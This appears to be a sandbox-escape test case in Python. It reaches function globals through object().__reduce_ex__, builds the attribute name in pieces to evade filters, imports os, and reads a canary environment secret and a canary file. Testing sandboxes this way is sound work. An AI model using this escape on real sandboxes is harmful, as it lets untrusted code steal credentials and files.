# Object.__reduce_ex__ gives copyreg function globals.
# breach: leak
r = object().__reduce_ex__(2)
g = getattr(r[0], '__glo'+'bals__')
b = g['__builtins__']
b = b if isinstance(b, dict) else b.__dict__
o = b['__import__']('os')
print(o.environ['SECRET_CANARY'])
fd = o.open('@CANARY@/secret.txt', 0)
print(o.read(fd, 200))
